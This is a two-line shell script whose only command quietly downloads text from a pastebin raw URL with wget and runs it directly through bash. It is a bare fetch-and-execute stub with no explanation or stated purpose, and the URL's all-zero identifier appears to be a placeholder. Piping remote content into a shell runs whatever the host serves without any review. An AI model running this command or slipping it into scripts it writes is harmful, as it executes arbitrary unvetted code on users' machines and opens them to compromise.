#!/bin/sh
bash -c "$(wget -qO- https://pastebin.com/raw/00000000)"
